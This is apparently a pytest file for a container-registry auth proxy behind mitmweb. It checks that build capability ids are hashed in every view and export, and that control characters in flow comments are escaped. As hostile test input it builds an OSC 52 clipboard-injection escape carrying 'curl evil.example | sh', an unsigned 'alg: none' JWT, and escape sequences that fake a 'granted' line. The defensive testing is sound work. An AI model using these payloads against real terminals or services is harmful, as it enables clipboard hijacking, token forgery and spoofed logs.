"""mitmweb and the console never show a capability id, and a flow's comment never carries a
control character (issue 20, items 3 and 10), with a real regauth, a real registry and skopeo.

A builder pushes to and pulls from `builds/<id>` anonymously: the id is its write right while
the build lives. It travels in request targets (plain, and percent-encoded in token scopes),
in distribution's `_state` upload parameter (base64 JSON naming the repository), in
`Location`, `WWW-Authenticate` and `Link` headers, in bodies (tags list, catalog, errors), in a
token's claims (base64) and in regauth's comments. Everything mitmweb shows or exports
(`/flows`, every content endpoint and view, `/flows/dump`, `/events`, the `/updates`
websocket) and the console must show `<id:HASH10>` instead: the exchange log's form, so the
same hash correlates log, trace and mitmweb. A filter naming the id matches nothing.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import json
import re
import socket
import ssl
import time
from io import BytesIO
from urllib.parse import quote
from urllib.parse import urlencode

from mitmproxy import io as mitm_io

from regauth.ops.registry_process import free_port
from tests.support import httpclient
from tests.support.policies import PASSWORDS
from tests.support.policies import SERVICE
from tests.support.policies import build_id
from tests.support.proxy import ProxyProcess
from tests.support.tools import skopeo
from tests.support.web import ALL_VIEWS
from tests.support.web import UpdatesSubscriber
from tests.support.web import WebApi
from tests.support.web import web_token

ESCAPES = ("\x1b", "\x07", "\r", "\u202e", "\x9b")
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
_BASE64_RUN = re.compile(r"[A-Za-z0-9+/_-]{12,}")


def hashed(build: str) -> str:
    return "<id:" + hashlib.sha256(build.encode()).hexdigest()[:10] + ">"


def _in_base64(text: str, secret: bytes) -> bool:
    """`secret` inside any base64 or base64url run of `text`, at any alignment."""
    for match in _BASE64_RUN.finditer(text):
        run = match.group(0).replace("-", "+").replace("_", "/")
        for skip in range(4):
            part = run[skip:]
            part = part[: len(part) - len(part) % 4]
            try:
                if secret in base64.b64decode(part):
                    return True
            except (binascii.Error, ValueError):
                continue
    return False


def id_leaks(shown: dict[str, str], build: str) -> list[str]:
    forms = {"as is": build, "hex": build.encode().hex()}
    if quote(build, safe="") != build:
        forms["percent-encoded"] = quote(build, safe="")
    leaks = [
        f"{where}: {name}"
        for where, text in shown.items()
        for name, form in forms.items()
        if form in text
    ]
    leaks += [
        f"{where}: base64" for where, text in shown.items() if _in_base64(text, build.encode())
    ]
    return leaks


def _web_proxy(make_proxy, policy, upstream: str, **kwargs: object) -> tuple[ProxyProcess, WebApi]:
    web_port = free_port()
    proxy = make_proxy(policy, upstream, web_port=web_port, **kwargs)
    return proxy, WebApi(web_port, web_token(proxy.output(), web_port))


def _abandoned_request(proxy: ProxyProcess, target: str) -> None:
    """A request head the client never finishes: mitmproxy logs what it got (console, /events)."""
    context = ssl.create_default_context(cafile=str(proxy.ca))
    with socket.create_connection(("localhost", proxy.port), timeout=10) as raw:
        with context.wrap_socket(raw, server_hostname="localhost") as tls:
            tls.sendall(f"GET {target} HTTP/1.1\r\nHost: localhost\r\n".encode())
            time.sleep(0.2)


def _wait_for(predicate, timeout: float = 10.0) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)


def test_mitmweb_and_the_console_never_show_a_capability_id(
    write_policy, make_registry, make_proxy, layout
) -> None:
    registry = make_registry()
    proxy, web = _web_proxy(make_proxy, write_policy(), registry.url)
    build = build_id()
    repo = f"builds/{build}"
    subscriber = UpdatesSubscriber(web.port, web.token).start()
    try:
        path, _ = layout
        pushed = skopeo(
            "copy",
            "--dest-cert-dir",
            str(proxy.certs_dir),
            f"oci:{path}:latest",
            f"docker://{proxy.netloc}/{repo}:1",
        )
        assert pushed.ok, pushed.output[-2000:]
        pulled = skopeo(
            "inspect", "--cert-dir", str(proxy.certs_dir), f"docker://{proxy.netloc}/{repo}:1"
        )
        assert pulled.ok, pulled.output[-2000:]
        port, ca = proxy.port, proxy.ca
        token = httpclient.get_token(port, ca, [f"repository:{repo}:pull"], SERVICE).json()
        tags = httpclient.request(
            port, ca, "GET", f"/v2/{repo}/tags/list", {"Authorization": f"Bearer {token['token']}"}
        )
        assert tags.status == 200 and build.encode() in tags.body
        missing = httpclient.request(
            port,
            ca,
            "GET",
            f"/v2/{repo}/manifests/nope",
            {"Authorization": f"Bearer {token['token']}"},
        )
        assert missing.status == 404  # an error body naming the repository
        catalog_token = httpclient.get_token(
            port, ca, ["registry:catalog:*"], SERVICE, ("ci", PASSWORDS["ci"])
        ).json()["token"]
        catalog = httpclient.request(
            port, ca, "GET", "/v2/_catalog?n=1", {"Authorization": f"Bearer {catalog_token}"}
        )
        assert catalog.status == 200
        form = httpclient.post_token(
            port,
            ca,
            {
                "grant_type": "password",
                "username": "ci",
                "password": PASSWORDS["ci"],
                "client_id": "tests",
                "service": SERVICE,
                "scope": f"repository:{repo}:pull",
            },
        )
        assert form.status == 200
        _abandoned_request(proxy, f"/v2/{repo}/tags/list")
        _wait_for(lambda: "before completing request headers" in web.get("/events").text)
        time.sleep(1.5)  # token responses are scrubbed a second after they were sent
        shown = web.snapshot(ALL_VIEWS)
        # A filter naming the id must not confirm it; one naming what is shown still works.
        for name, expr in (("guess", f"~u {build}"), ("control", "~u builds/")):
            subscriber.send({"type": "flows/updateFilter", "payload": {"name": name, "expr": expr}})
        time.sleep(0.5)
    finally:
        subscriber.close()
    shown.update({f"/updates message {i}": m for i, m in enumerate(subscriber.messages)})
    shown["console"] = proxy.output()
    assert "before completing request headers" in shown["console"], "no console line to check"
    leaks = id_leaks(shown, build)
    assert not leaks, f"the capability id is shown ({len(leaks)} places):\n" + "\n".join(leaks[:40])
    # What is shown instead is the exchange log's form, the same hash everywhere.
    assert hashed(build) in proxy.log_path.read_text()
    assert hashed(build) in shown["/flows"] and hashed(build) in shown["console"]
    comments = [f["comment"] for f in json.loads(shown["/flows"])]
    assert any(
        c.startswith(f"token for anonymous: repository:builds/{hashed(build)}:") for c in comments
    ), comments
    answers = {
        m["payload"]["name"]: m["payload"]["matching_flow_ids"]
        for m in subscriber.parsed()
        if m.get("type") == "flows/filterUpdate"
    }
    assert answers["control"], "the control filter matched nothing"
    assert not answers["guess"], "a filter naming the capability id matched its flows"


def test_comments_and_events_carry_no_control_character(
    write_policy, make_registry, make_proxy
) -> None:
    """What a client wrote reaches a comment (a refusal's reason, the subject a token claims
    in delegate mode): escaped, never raw."""
    port_ = free_port()
    registry = make_registry("token", realm=f"https://localhost:{port_}/v2/token")
    proxy, web = _web_proxy(make_proxy, write_policy(mode="delegate"), registry.url, port=port_)
    port, ca = proxy.port, proxy.ca
    hostile = OSC52 + "\r\x1b[2K200 ci → granted\u202e\x9b"

    def forged(claims: dict[str, object]) -> str:
        def part(value: dict[str, object]) -> str:
            return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

        return f"{part({'alg': 'none'})}.{part(claims)}."

    # Delegate mode forwards what is not the registry API; the comment names the claimed sub.
    reply = httpclient.request(
        port, ca, "GET", "/not-the-api", {"Authorization": f"Bearer {forged({'sub': hostile})}"}
    )
    assert reply.status == 404
    # A token request with the escapes in its query and Basic user name.
    refused = httpclient.request(
        port,
        ca,
        "GET",
        "/v2/token?"
        + urlencode(
            {"service": SERVICE, "scope": "repository:public/app:pull", "client_id": hostile}
        ),
        {"Authorization": httpclient.basic(hostile.replace(":", ""), "wrong")},
    )
    assert refused.status == 401
    _wait_for(lambda: len([f for f in web.flows() if f.get("comment")]) >= 2)
    flows = web.flows()
    comments = [f["comment"] for f in flows]
    for comment in comments:
        raw = [repr(c) for c in ESCAPES if c in comment]
        assert not raw, f"raw {raw} in the comment {comment!r}"
    claimed = [c for c in comments if "(claimed, checked by the registry)" in c]
    assert claimed, comments
    assert "\\x1b]52;c;" in claimed[0] and "\\x0d\\x1b[2K" in claimed[0]
    # An export holds the comments as mitmweb shows them (the client's own bytes stay in the
    # request it sent, which is what a flow file is for).
    exported = list(mitm_io.FlowReader(BytesIO(web.get("/flows/dump").body)).stream())
    assert any("(claimed, checked by the registry)" in f.comment for f in exported)
    for flow in exported:
        raw = [repr(c) for c in ESCAPES if c in flow.comment]
        assert not raw, f"raw {raw} in the exported comment {flow.comment!r}"
